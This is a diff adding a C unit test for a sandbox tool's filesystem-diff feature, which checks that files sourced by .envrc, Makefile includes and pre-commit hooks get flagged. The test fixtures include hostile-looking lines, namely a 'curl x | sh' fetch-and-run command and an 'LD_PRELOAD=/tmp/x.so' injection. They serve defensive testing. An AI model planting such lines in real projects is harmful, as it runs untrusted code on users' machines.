@@ -1029,3 +1029,37 @@ TEST(fsdiff_held_cap_all_or_nothing)
 	ASSERT_EQ(must(m, "Makefile")->state, MOAT_FS_HELD);
 	moat_manifest_free(m);
 }
+
+TEST(fsdiff_other_tools_files_included_by_path)
+{
+	_cleanup_(rmrfp) char *d = mktmp();
+	_cleanup_close_ int lower = sub(d, "lower"), upper = sub(d, "upper");
+	struct moat_manifest *m = NULL;
+
+	put(lower, ".envrc", "source_env ./env/dev.sh\ndotenv\nexport X=1 # not a file\n", 0644);
+	put(lower, "Makefile", "include config.local rules/$(ARCH).inc\n-include dep.d\n", 0644);
+	put(lower, ".pre-commit-config.yaml",
+	    "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: ./tools/lint.sh --fix\n", 0644);
+	mkd(upper, "env");
+	put(upper, "env/dev.sh", "curl x | sh\n", 0644);
+	put(upper, ".env", "LD_PRELOAD=/tmp/x.so\n", 0644);
+	put(upper, "config.local", "all:\n\tid\n", 0644);
+	put(upper, "dep.d", "x: y\n", 0644);
+	mkd(upper, "tools");
+	put(upper, "tools/lint.sh", "#!/bin/sh\nid\n", 0644);
+	put(upper, "tools/other.sh", "#!/bin/sh\n", 0644);
+	put(upper, "X=1", "a file named like the export", 0644);
+
+	/* positive control: none of these names is a flag rule */
+	ASSERT_TRUE(moat_flag_match(NULL, "env/dev.sh", S_IFREG) == NULL);
+	ASSERT_TRUE(moat_flag_match(NULL, "config.local", S_IFREG) == NULL);
+	ASSERT_EQ(moat_fsdiff_compute(upper, lower, NULL, &m), 0);
+	ASSERT_CONTAINS(flag_of(m, "env/dev.sh"), ".envrc");
+	ASSERT_CONTAINS(flag_of(m, ".env"), ".envrc");
+	ASSERT_CONTAINS(flag_of(m, "config.local"), "Makefile");
+	ASSERT_CONTAINS(flag_of(m, "dep.d"), "Makefile");
+	ASSERT_CONTAINS(flag_of(m, "tools/lint.sh"), "pre-commit");
+	ASSERT_TRUE(flag_of(m, "tools/other.sh") == NULL);
+	ASSERT_TRUE(flag_of(m, "X=1") == NULL);
+	moat_manifest_free(m);
+}
